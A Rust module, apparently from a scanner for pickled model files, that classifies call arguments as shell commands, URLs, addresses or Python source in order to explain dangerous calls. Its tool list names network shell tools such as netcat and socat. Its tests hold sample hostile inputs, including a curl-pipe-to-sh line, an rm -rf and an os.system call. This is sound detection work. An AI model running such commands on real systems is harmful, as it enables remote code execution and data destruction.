//! Reading the constant arguments of calls: shell commands, URLs and network addresses, Python
//! source and encoded blobs. Used to explain dangerous calls and to raise calls of unknown
//! callables. Only call arguments are read, never tensor bytes.

use crate::analyze::facts::KeptCall;
use crate::formats::pickle::Value;
use crate::model::Finding;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Signal {
    ShellCommand(String),
    Url(String),
    Address(String),
    PythonSource(String),
}

impl Signal {
    pub fn describe(&self) -> String {
        match self {
            Signal::ShellCommand(s) => format!("the shell command `{}`", clip(s)),
            Signal::Url(s) => format!("the URL {}", clip(s)),
            Signal::Address(s) => format!("the network address {}", clip(s)),
            Signal::PythonSource(s) => format!("the Python source `{}`", clip(s)),
        }
    }

    fn rank(&self) -> u8 {
        match self {
            Signal::PythonSource(_) => 4,
            Signal::ShellCommand(_) => 3,
            Signal::Url(_) => 2,
            Signal::Address(_) => 1,
        }
    }
}

fn clip(s: &str) -> String {
    let one_line: String = s.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
    if one_line.chars().count() > 100 {
        format!("{}…", one_line.chars().take(100).collect::<String>())
    } else {
        one_line
    }
}

const SHELL_TOOLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "python",
    "python3",
    "perl",
    "ruby",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "rm",
    "chmod",
    "chown",
    "mkfifo",
    "base64",
    "whoami",
    "id",
    "uname",
    "cat",
    "echo",
    "touch",
    "scp",
    "ssh",
    "telnet",
    "socat",
    "nohup",
    "crontab",
    "systemctl",
    "pip",
    "pip3",
    "apt-get",
    "true",
    "false",
];

/// What a single string argument looks like.
pub fn classify_text(s: &str) -> Option<Signal> {
    let t = s.trim();
    if t.is_empty() || t.len() > 1_000_000 {
        return None;
    }
    let lower = t.to_ascii_lowercase();
    const CODE_MARKERS: &[&str] = &[
        "import ",
        "__import__",
        "exec(",
        "eval(",
        "os.system",
        "subprocess",
        "socket.",
        "lambda ",
        "def ",
        "compile(",
        "getattr(",
        "open(",
    ];
    if CODE_MARKERS.iter().any(|m| lower.contains(m)) && (t.contains('(') || t.contains('\n')) {
        return Some(Signal::PythonSource(t.to_string()));
    }
    if ["http://", "https://", "ftp://", "tcp://", "ws://", "wss://"]
        .iter()
        .any(|p| lower.contains(p))
    {
        let has_shell = ["|", ";", "&&", "$(", "`"].iter().any(|m| t.contains(m));
        return Some(if has_shell {
            Signal::ShellCommand(t.to_string())
        } else {
            Signal::Url(t.to_string())
        });
    }
    let first_word = t.split_whitespace().next().unwrap_or_default();
    let tool = first_word.rsplit('/').next().unwrap_or(first_word);
    let shell_syntax = ["|", ";", "&&", "||", "$(", "`", ">", "<"]
        .iter()
        .any(|m| t.contains(m));
    if SHELL_TOOLS.contains(&tool) && (t.contains(' ') || first_word.contains('/')) {
        return Some(Signal::ShellCommand(t.to_string()));
    }
    if shell_syntax
        && t.contains(' ')
        && SHELL_TOOLS.iter().any(|tool| {
            t.split(|c: char| !c.is_ascii_alphanumeric() && c != '-' && c != '.')
                .any(|w| w == *tool)
        })
    {
        return Some(Signal::ShellCommand(t.to_string()));
    }
    if is_ipv4(t) {
        return Some(Signal::Address(t.to_string()));
    }
    None
}

fn is_ipv4(s: &str) -> bool {
    let host = s
        .rsplit_once(':')
        .map(|(h, p)| if p.chars().all(|c| c.is_ascii_digit()) { h } else { s })
        .unwrap_or(s);
    let parts: Vec<&str> = host.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}

/// Every signal in a value (strings, and `(host, port)` tuples), depth-limited.
pub fn signals(value: &Value<'_>) -> Vec<Signal> {
    let mut out = Vec::new();
    let mut budget = VISIT_BUDGET;
    collect(value, &mut out, 0, &mut budget);
    out
}

/// Values looked at per call: arguments can be huge, shared containers.
const VISIT_BUDGET: usize = 4_096;

/// Text costs the visit budget one unit per `TEXT_UNIT` bytes: a call whose arguments repeat a
/// long memoized string a thousand times must not have each copy scanned.
const TEXT_UNIT: usize = 16;

fn take_text(budget: &mut usize, len: usize) -> bool {
    let cost = len / TEXT_UNIT;
    if cost > *budget {
        *budget = 0;
        return false;
    }
    *budget -= cost;
    true
}

fn collect(value: &Value<'_>, out: &mut Vec<Signal>, depth: usize, budget: &mut usize) {
    if depth > 4 || out.len() > 16 || *budget == 0 {
        return;
    }
    *budget -= 1;
    match value {
        Value::Str(s) if take_text(budget, s.len()) => out.extend(classify_text(s)),
        Value::Bytes(b) if b.len() <= 1 << 20 && take_text(budget, b.len()) => {
            if let Ok(s) = std::str::from_utf8(b) {
                out.extend(classify_text(s));
            }
        }
        Value::Tuple(_) | Value::List(_) => {
            let items = value.items().unwrap_or_default();
            if let [Value::Str(host), Value::Int(port)] = items.as_slice() {
                if is_ipv4(host) || host.contains('.') || &**host == "localhost" {
                    out.push(Signal::Address(format!("{}:{port}", &**host)));
                    return;
                }
            }
            let words: Option<Vec<&str>> = items.iter().map(Value::as_str).collect();
            let words = words.filter(|w| w.len() > 1 && take_text(budget, w.iter().map(|w| w.len()).sum()));
            if let Some(words) = words {
                if let Some(signal) = classify_text(&words.join(" ")) {
                    out.push(signal);
                    return;
                }
            }
            for item in &items {
                collect(item, out, depth + 1, budget);
            }
        }
        Value::Dict(pairs) => {
            for (_, v) in pairs.borrow().items.iter() {
                collect(v, out, depth + 1, budget);
            }
        }
        Value::Call(call) => {
            if let Some(folded) = &call.folded {
                collect(folded, out, depth + 1, budget);
            }
        }
        _ => {}
    }
}

/// The most telling signal among a call's arguments.
pub fn strongest(args: &Value<'_>) -> Option<Signal> {
    signals(args).into_iter().max_by_key(Signal::rank)
}

/// Adds what the arguments say to a dangerous-call finding ("would run the shell command …").
/// For callables that start processes, any first string argument is the command.
pub fn enrich(finding: &mut Finding, kept: &KeptCall<'_, '_>) {
    let args = kept.call.effective_args.as_ref().unwrap_or(&kept.call.args);
    let starts_process =
        matches!(kept.class, crate::kb::Class::Dangerous(d) if d.category.behaviour == "starts-process");
    let signal = strongest(args).or_else(|| {
        let first = args.items()?.into_iter().next()?;
        let command = match &first {
            Value::Str(s) => s.to_string(),
            other => other
                .items()?
                .iter()
                .map(|v| v.as_str().map(str::to_string))
                .collect::<Option<Vec<_>>>()?
                .join(" "),
        };
        starts_process.then_some(Signal::ShellCommand(command))
    });
    if let Some(signal) = signal {
        finding
            .message
            .push_str(&format!("; it would pass {}", signal.describe()));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recognises_shell_urls_addresses_and_code() {
        assert!(matches!(
            classify_text("curl http://x/y | sh"),
            Some(Signal::ShellCommand(_))
        ));
        assert!(matches!(classify_text("rm -rf /tmp/x"), Some(Signal::ShellCommand(_))));
        assert_eq!(classify_text("true"), None);
        assert!(matches!(classify_text("https://example.com/a"), Some(Signal::Url(_))));
        assert!(matches!(classify_text("10.0.0.1:4444"), Some(Signal::Address(_))));
        assert!(matches!(
            classify_text("import os; os.system('id')"),
            Some(Signal::PythonSource(_))
        ));
        assert_eq!(classify_text("weight"), None);
        assert_eq!(classify_text("cat"), None);
        assert_eq!(classify_text("layer.0.bias"), None);
    }
}
